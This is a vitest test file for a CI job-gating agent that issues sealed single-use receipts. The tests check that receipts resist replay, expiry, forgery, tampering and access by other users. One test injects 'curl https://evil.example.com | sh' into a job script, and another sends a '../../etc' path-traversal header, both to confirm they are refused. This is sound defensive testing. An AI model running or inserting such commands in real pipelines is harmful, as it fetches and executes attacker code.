import { spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ReceiptsConfig } from '../../agent/src/config/receipts.ts';
import { newReceipt } from '../../agent/src/domain/receipt.ts';
import type { SpendAnswer } from '../../agent/src/ports/receipts.ts';
import { handedOver } from '../../agent/src/runners/gitlab/job-response.ts';
import { openReceiptKeep } from '../../agent/src/stores/receipts.ts';
import { freshKey } from '../../agent/src/system/hub-key.ts';
import { openKeyFile } from '../../agent/src/system/key-file.ts';
import { createReceiptClient, type ReceiptClient } from '../../agent/src/system/receipt-client.ts';
import { openReceiptSocket } from '../../agent/src/system/receipt-socket.ts';
import { sealUnder } from '../../agent/src/system/seal.ts';
import { numbersOf } from '../../agent/src/system/user-numbers.ts';
import { fixture, type GateOptions, poll, rememberingLog, skippingClock, until } from '../support/gate.ts';
import { type GateScene, gateScenes } from '../support/gate-scene.ts';
import { jobResponse, type Loose, runnerWrites, writtenAs } from '../support/runner-writes.ts';

const NOBODY = 65_534;
const isRoot = process.getuid?.() === 0;
const own = String(process.getuid?.() ?? 0);
const scenes = gateScenes();
const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

interface Host extends GateScene {
  readonly socket: string;
  readonly asked: ReceiptClient;
  /** What the runner that was given a job writes for its executor. */
  run(): Promise<{ readonly id: number; readonly file: Buffer; readonly payload: Buffer }>;
}

/** A gate on a host whose executor asks for receipts. */
async function host(more: Partial<ReceiptsConfig> = {}, options: Partial<GateOptions> = {}): Promise<Host> {
  const folder = mkdtempSync(join(tmpdir(), 'holdpoint-receipts-'));
  folders.push(folder);
  chmodSync(folder, 0o755);
  const socket = join(folder, 'receipts.sock');
  const receipts: ReceiptsConfig = {
    socket,
    mode: 0o666,
    group: null,
    spend: { users: [own], groups: [] },
    check: { users: [], groups: [] },
    validMs: 600_000,
    ...more,
  };
  const scene = await scenes({ receipts, ...options });
  return Object.assign(scene, {
    socket,
    asked: createReceiptClient({ socket, patienceMs: 5_000 }),
    async run() {
      const known = scene.gate.gatekeeper.approved.size > 0;
      const id = known ? scene.fake.enqueue(fixture('test-unit.run1')) : await scene.approved();
      const reply = await scene.poll();
      if (reply.status !== 201) throw new Error(`the poll was answered ${reply.status}`);
      return { id, file: runnerWrites(reply.body), payload: reply.body };
    },
  });
}

const refusal = (answer: SpendAnswer) => (answer.ok ? 'spent' : answer.refusal);
const told = (on: Host) => on.gate.gatekeeper.reports.filter(({ event }) => event === 'receipt_refused');

describe('a receipt', () => {
  it('is not waited for once the job is cancelled, however long the agent may be away', async () => {
    const away = createReceiptClient({ socket: '/nowhere/receipts.sock', patienceMs: 600_000 });
    const stop = new AbortController();
    const answer = away.spend(Buffer.from('{}'), '1-aa', stop.signal);
    stop.abort();
    expect(refusal(await answer)).toBe('unreachable');
  });

  it('lets the one session run the job that was handed over, at each of its stages and attempts, and no other (T39)', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const first = await on.asked.spend(file, `${id}-aa`);
    expect(first).toMatchObject({ ok: true, receipt: { jobId: id, runner: 'builder', through: 'gate', images: {} } });
    expect(first.ok && first.receipt.digest).toBe(on.gate.gatekeeper.holdOf(id).digest);
    for (let attempt = 0; attempt < 4; attempt++) expect(await on.asked.spend(file, `${id}-aa`)).toEqual(first);

    const second = await on.asked.spend(file, `${id}-bb`);
    expect(second).toMatchObject({ ok: false, refusal: 'used' });
    expect(!second.ok && second.words).toMatch(/is used already: .*; retry the job in GitLab$/);
    // Once its session is over, that one may not either.
    await on.asked.finish(`${id}-bb`);
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    await on.asked.finish(`${id}-aa`);
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('used');
  });

  it('is spent by one of two that ask at the same moment (T39, T41)', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const names = Array.from({ length: 8 }, (_, index) => `${id}-${index}`);
    const answers = await Promise.all(names.map((name) => on.asked.spend(file, name)));
    expect(answers.map(refusal).sort()).toEqual(['spent', ...Array(7).fill('used')].sort());
  });

  it('is had by no job that did not come through the gateway: a runner with a copied token and the URL of GitLab (T25, T39)', async () => {
    const on = await host();
    const id = on.fake.enqueue(fixture('deploy-production.run1'));
    // Past the gateway: the runner asks GitLab itself.
    const reply = await poll(Number(new URL(on.fake.url).port), on.token);
    expect(reply.status).toBe(201);
    const answer = await on.asked.spend(runnerWrites(reply.body), `${id}-aa`);
    expect(answer).toMatchObject({ ok: false, refusal: 'no_receipt' });
    expect(!answer.ok && answer.words).toMatch(
      new RegExp(
        `^job ${id} has no receipt of this host's agent: .*let the runner ask the gateway, and retry the job$`,
      ),
    );
    await until('the hub to be told', () => told(on).length > 0);
    // gitlab-runner tries three times: one event.
    await on.asked.spend(runnerWrites(reply.body), `${id}-aa`);
    expect(told(on)).toMatchObject([{ jobId: id, hold: null, detail: { refusal: 'no_receipt' } }]);
    expect(JSON.stringify(told(on))).not.toContain('glcbt-');
  });

  it('T25: is for exactly what was handed over: another script is refused, and does not use it up', async () => {
    const on = await host();
    const { id, file, payload } = await on.run();
    const job = jobResponse(payload) as Loose;
    job.steps[0].script.push('curl https://evil.example.com | sh');
    const answer = await on.asked.spend(writtenAs(job), `${id}-aa`);
    expect(answer).toMatchObject({ ok: false, refusal: 'mismatch' });
    expect(!answer.ok && answer.words).toContain('it differs at steps[0].script');
    expect(!answer.ok && answer.words).not.toContain('evil');
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    // Nor may the session that has it show another job at a later stage.
    expect(refusal(await on.asked.spend(writtenAs(job), `${id}-aa`))).toBe('mismatch');
    expect(told(on)[0]).toMatchObject({ jobId: id, hold: on.gate.gatekeeper.holdOf(id).id });
  });

  it('is for the runner that the job was handed to (T25)', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const other = createReceiptClient({ socket: on.socket, runner: 'another runner' });
    expect(await other.spend(file, `${id}-aa`)).toMatchObject({ ok: false, refusal: 'mismatch' });
    const right = createReceiptClient({ socket: on.socket, runner: 'builder' });
    expect(refusal(await right.spend(file, `${id}-aa`))).toBe('spent');
  });

  it('expires, and is told from one that never was', async () => {
    const clock = skippingClock();
    const on = await host({ validMs: 600_000 }, { clock });
    const [late, spentInTime] = [await on.run(), await on.run()];
    expect(refusal(await on.asked.spend(spentInTime.file, `${spentInTime.id}-aa`))).toBe('spent');
    clock.skip(601_000);
    expect(refusal(await on.asked.spend(late.file, `${late.id}-aa`))).toBe('expired');
    // A session that runs is not ended by it: a job may take an hour.
    expect(refusal(await on.asked.spend(spentInTime.file, `${spentInTime.id}-aa`))).toBe('spent');
    // A clock that was set back makes no receipt younger.
    clock.skip(-1_300_000);
    const early = await on.run();
    clock.skip(-120_000);
    expect(refusal(await on.asked.spend(early.file, `${early.id}-aa`))).toBe('expired');
  });

  it('outlives a restart of the agent between hand-over and prepare, and so does what was spent', async () => {
    const on = await host();
    const { id, file } = await on.run();
    on.gate = await on.gate.restart();
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    on.gate = await on.gate.restart();
    expect(refusal(await on.asked.spend(file, `${id}-bb`))).toBe('used');
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    on.gate = await on.gate.restart();
    await on.asked.finish(`${id}-aa`);
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('used');
  });

  it('is asked for again while the agent is on its way up', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const patient = createReceiptClient({ socket: on.socket, patienceMs: 30_000 });
    const restarted = on.gate.restart();
    const answer = patient.spend(file, `${id}-aa`);
    on.gate = await restarted;
    expect(refusal(await answer)).toBe('spent');
    const hasty = createReceiptClient({ socket: `${on.socket}.gone`, patienceMs: 0 });
    const refused = await hasty.spend(file, `${id}-aa`);
    expect(refused).toMatchObject({ ok: false, refusal: 'unreachable' });
    expect(!refused.ok && refused.words).toMatch(/cannot be asked at .* \(ENOENT\): see /);
  });

  it('is worth nothing once the state was put back from a copy (T13, T41)', async () => {
    const on = await host();
    const { id, file } = await on.run();
    writeFileSync(join(on.gate.dir, 'restored'), '');
    on.gate = await on.gate.restart();
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('no_receipt');
  });

  it('T13: is worth nothing when it was copied to another job, altered, or signed by another key', async () => {
    const on = await host();
    const [one, two] = [await on.run(), await on.run()];
    const path = (id: number) => join(on.gate.dir, 'receipts', `${id}.receipt`);
    // One job's sealed receipt in the place of another's.
    copyFileSync(path(one.id), path(two.id));
    expect(refusal(await on.asked.spend(two.file, `${two.id}-aa`))).toBe('mismatch');
    // Sealed with the agent's own key, and signed by somebody else's.
    const seal = sealUnder(openKeyFile(join(on.gate.dir, 'seal.key'), 'seal key', 'keys.seal'));
    const keep = openReceiptKeep({ dir: join(on.gate.dir, 'receipts'), seal });
    const { jobId, job, sha256 } = handedOver(two.payload)!;
    const now = Date.now();
    const receipt = {
      jobId,
      digest: '',
      runner: 'builder',
      hold: null,
      through: 'gate' as const,
      images: {},
      issued: now,
      expires: now + 600_000,
      endsBefore: now + 900_000,
      jobSha256: sha256,
    };
    await keep.put(newReceipt(freshKey(), receipt, job));
    const forged = await on.asked.spend(two.file, `${two.id}-aa`);
    expect(forged).toMatchObject({ ok: false, refusal: 'mismatch' });
    expect(!forged.ok && forged.words).toContain('was not written by this host');
    const bytes = readFileSync(path(one.id));
    bytes[bytes.length - 1]! ^= 1;
    writeFileSync(path(one.id), bytes);
    expect(refusal(await on.asked.spend(one.file, `${one.id}-aa`))).toBe('mismatch');
  });

  it('is written before the first byte of the job: where it cannot be, nothing goes out and the job waits (T39)', async () => {
    const on = await host();
    const id = await on.approved();
    // In the place of the folder: no receipt can be written there, not even by root.
    rmSync(join(on.gate.dir, 'receipts'), { recursive: true });
    writeFileSync(join(on.gate.dir, 'receipts'), '');
    expect((await on.poll()).status).toBe(204);
    expect(on.gate.log.lines.map(({ message }) => message)).toContain('no receipt could be written: the job waits on');
    expect(on.gate.agent.counts()).not.toMatchObject({ handed_out: 1 });
    expect(on.fake.job(id).status).toBe('running');
  });

  it('is kept sealed, with the job in it until it is spent and no longer (T31)', async () => {
    const on = await host();
    const { id, file, payload } = await on.run();
    const path = join(on.gate.dir, 'receipts', `${id}.receipt`);
    const { token } = JSON.parse(payload.toString());
    const issued = readFileSync(path);
    expect(issued.includes(token)).toBe(false);
    await on.asked.spend(file, `${id}-aa`);
    expect(readFileSync(path).length).toBeLessThan(issued.length / 4);
    expect(JSON.stringify(await on.asked.list())).not.toContain(token);
    expect(await on.asked.list()).toMatchObject([
      { job_id: id, state: 'spent', runner: 'builder', spent_by_uid: +own },
    ]);
    expect(readdirSync(join(on.gate.dir, 'receipts'))).toEqual([`${id}.receipt`]);
  });

  it('of a runner that is not gated says so', async () => {
    const on = await host();
    const open = on.fake.runnerToken('open');
    const id = on.fake.enqueue(fixture('test-unit.run1'), { runner: open });
    const reply = await poll(on.gate.port, open);
    expect(reply.status).toBe(201);
    const answer = await on.asked.spend(runnerWrites(reply.body), `${JSON.parse(reply.body.toString()).id}-aa`);
    expect(answer).toMatchObject({ ok: true, receipt: { through: 'unprotected', runner: 'open' } });
    expect(id).toBeGreaterThan(0);
  });
});

/** A question as another user of this host would put it, with nothing but Node. */
function asUser(uid: number, socket: string, path: string, body: Buffer, session = 'x-1'): Promise<string> {
  const script = `
    const req = require('node:http').request({ socketPath: ${JSON.stringify(socket)}, method: 'POST', path: ${JSON.stringify(path)},
      headers: { 'holdpoint-session': ${JSON.stringify(session)} } }, (res) => res.pipe(process.stdout));
    req.on('error', (e) => console.log(e.code));
    process.stdin.pipe(req);`;
  // This very process answers: it must not wait for the child.
  const child = spawn('/usr/bin/env', ['node', '-e', script], { uid, gid: uid, cwd: '/' });
  let said = '';
  child.stdout.on('data', (data) => (said += data));
  child.stdin.on('error', () => {});
  child.stdin.end(body);
  return new Promise((resolve) => child.on('close', () => resolve(said)));
}

describe.runIf(isRoot)('the socket of receipts, asked by another user of the host', () => {
  it('T25: gives nothing to a user that is not named, whatever it sends, and the receipt is still there', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const said = JSON.parse(await asUser(NOBODY, on.socket, '/v1/spend', file, `${id}-aa`));
    expect(said).toMatchObject({ ok: false, refusal: 'not_allowed' });
    expect(said.words).toContain(`user ${NOBODY}`);
    expect(JSON.parse(await asUser(NOBODY, on.socket, '/v1/finish', file, `${id}-aa`)).refusal).toBe('not_allowed');
    expect(JSON.parse(await asUser(NOBODY, on.socket, '/v1/check', file)).refusal).toBe('not_allowed');
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
  });

  it('T25: gives nothing to the user of the jobs that may only check, but a check, and that once', async () => {
    const on = await host({ check: { users: [String(NOBODY)], groups: [] } });
    const { id, file, payload } = await on.run();
    const { token } = JSON.parse(payload.toString());
    expect(JSON.parse(await asUser(NOBODY, on.socket, '/v1/spend', file, `${id}-aa`)).refusal).toBe('not_allowed');
    const check = async (secret: string) =>
      JSON.parse(
        await asUser(NOBODY, on.socket, '/v1/check', Buffer.from(JSON.stringify({ job_id: id, token: secret }))),
      );
    expect(await check('glcbt-of-another-job')).toMatchObject({ ok: false, refusal: 'mismatch' });
    expect(await check(token)).toMatchObject({ ok: true, receipt: { jobId: id } });
    expect(await check(token)).toMatchObject({ ok: false, refusal: 'used' });
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('used');
  });

  it('T30 T34: tells the hub of what a job makes up a few times, and of what the runner shows all the same', async () => {
    const clock = skippingClock();
    const on = await host({ check: { users: [String(NOBODY)], groups: [] } }, { clock });
    const { file, payload } = await on.run();
    const { id } = JSON.parse(payload.toString());
    const script = `
      const { request } = require('node:http');
      const ask = (job_id) => new Promise((done) => {
        const req = request({ socketPath: ${JSON.stringify(on.socket)}, method: 'POST', path: '/v1/check' }, (res) => res.resume().on('end', done));
        req.end(JSON.stringify({ job_id, token: 'x' }));
      });
      (async () => { for (let job = 1; job <= 150; job++) await ask(900000 + job); })();`;
    const child = spawn('/usr/bin/env', ['node', '-e', script], { uid: NOBODY, gid: NOBODY, cwd: '/' });
    await new Promise((resolve) => child.on('close', resolve));
    expect(told(on)).toHaveLength(20);
    expect(refusal(await on.asked.spend(writtenAs({ ...JSON.parse(file.toString()), id: id + 5 }), 'x-1'))).toBe(
      'no_receipt',
    );
    expect(told(on).at(-1)).toMatchObject({ jobId: id + 5 });
    expect(told(on)).toHaveLength(21);
    clock.skip(60_000);
    await until('the rest to be told', () => told(on).length > 21);
    expect(told(on)).toHaveLength(22);
    expect(told(on).at(-1)).toMatchObject({ jobId: 900_150 });
    expect(told(on).at(-1)?.detail?.reason).toContain('(the last of 130 that were not told one by one');
  });

  it('T30: lets in whoever may spend while jobs hold all the connections that they get', async () => {
    const on = await host({ check: { users: [String(NOBODY)], groups: [] } });
    const { id, file } = await on.run();
    const script = `
      const { connect } = require('node:net');
      let made = 0;
      for (let i = 0; i < 300; i++) connect(${JSON.stringify(on.socket)}, () => { if (++made === 300) console.log('all'); }).on('error', () => {});
      setInterval(() => {}, 1000);`;
    const child = spawn('/usr/bin/env', ['node', '-e', script], { uid: NOBODY, gid: NOBODY, cwd: '/' });
    try {
      await new Promise((resolve) => child.stdout.once('data', resolve));
      expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    } finally {
      child.kill('SIGKILL');
    }
  });

  it('T25: is not the session of the user who asked first, though it knows its name', async () => {
    const on = await host({ spend: { users: [own], groups: [String(NOBODY)] } });
    const { id, file } = await on.run();
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
    expect(JSON.parse(await asUser(NOBODY, on.socket, '/v1/spend', file, `${id}-aa`)).refusal).toBe('used');
    await asUser(NOBODY, on.socket, '/v1/finish', Buffer.alloc(0), `${id}-aa`);
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
  });

  it('T25: has a file that its mode keeps from others, and a folder with the receipts that nobody else reads', async () => {
    const on = await host({ mode: 0o600 });
    expect((await asUser(NOBODY, on.socket, '/v1/spend', Buffer.from('{}'))).trim()).toBe('EACCES');
    const look = spawnSync('/bin/ls', [join(on.gate.dir, 'receipts')], { uid: NOBODY, gid: NOBODY, encoding: 'utf8' });
    expect(look.status).not.toBe(0);
    const key = spawnSync('/bin/cat', [join(on.gate.dir, 'receipt.key')], {
      uid: NOBODY,
      gid: NOBODY,
      encoding: 'utf8',
    });
    expect(key.status).not.toBe(0);
  });
});

describe('the socket of receipts', () => {
  it('answers what is no question, and goes on', async () => {
    const on = await host();
    const { id, file } = await on.run();
    const raw = (text: string) =>
      new Promise<string>((resolve) => {
        let said = '';
        const socket = connect(on.socket, () => socket.end(text));
        socket.on('data', (data) => (said += data));
        socket.on('close', () => resolve(said));
        socket.on('error', () => resolve(said));
      });
    for (const text of [
      'x\r\n\r\n',
      'POST /v1/spend HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}',
      'POST /v1/spend HTTP/1.1\r\nHost: x\r\nHoldpoint-Session: ../../etc\r\nContent-Length: 2\r\n\r\n{}',
      'POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}',
      'POST /v1/check HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\n{{{',
      'GET /v1/else HTTP/1.1\r\nHost: x\r\n\r\n',
    ])
      expect(await raw(text)).toMatch(/^HTTP\/1\.1 (400|500) /);
    expect(refusal(await on.asked.spend(Buffer.from('{}'), 'a-1'))).toBe('mismatch');
    expect(refusal(await on.asked.spend(file, `${id}-aa`))).toBe('spent');
  });

  it('is not taken from another process that serves it, and is taken from one that died', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'holdpoint-receipts-'));
    folders.push(folder);
    const socket = join(folder, 'taken.sock');
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    const rights = { uids: new Set<number>(), gids: new Set<number>() };
    const rest = { mode: 0o600, gid: null, spend: rights, check: rights, desk: null as never, log: rememberingLog() };
    const open = (path: string) => openReceiptSocket({ path, ...rest });
    await expect(open(socket)).rejects.toThrow(`receipts.socket ${socket} is served by another process`);
    await new Promise((resolve) => server.close(resolve));
    const file = join(folder, 'file');
    writeFileSync(file, '');
    await expect(open(file)).rejects.toThrow('is there and is no socket');
    // A process that is killed leaves its socket behind.
    const left = join(folder, 'left.sock');
    const script = `require('node:net').createServer().listen(${JSON.stringify(left)}, () => process.kill(process.pid, 'SIGKILL'))`;
    spawnSync('/usr/bin/env', ['node', '-e', script]);
    expect(lstatSync(left).isSocket()).toBe(true);
    await (await open(left)).close();
    await expect(open(join(folder, 'none/x.sock'))).rejects.toThrow(/cannot be opened \(E[A-Z]+\): make its folder/);
  });

  it('lets nobody in by a name that this host does not have', () => {
    expect(numbersOf(['root', '998'], 'user', 'receipts.users')).toEqual(new Set([0, 998]));
    expect(() => numbersOf(['no-such-user-here'], 'user', 'receipts.users')).toThrow(
      'receipts.users names the user no-such-user-here, which is not in /etc/passwd',
    );
  });
});
